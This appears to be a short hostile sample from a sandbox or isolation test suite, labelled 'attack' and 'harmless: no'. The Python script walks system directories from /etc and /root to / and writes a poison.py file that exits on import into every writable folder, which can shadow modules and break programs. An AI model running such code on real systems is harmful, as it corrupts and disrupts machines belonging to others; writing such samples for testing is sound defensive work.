# attack: a file is written into every folder that lets it
# harmless: no
import os

for top in (
    "/tmp",
    "/scratch",
    "/sockets",
    "/dev",
    "/etc",
    "/home",
    "/root",
    "/var",
    "/",
):
    for folder, names, _ in os.walk(top):
        names[:] = [name for name in names if f"{folder}/{name}" not in ("//proc", "//sys")]
        try:
            with open(f"{folder}/poison.py", "w") as file:
                file.write("raise SystemExit\n")
        except OSError:
            pass
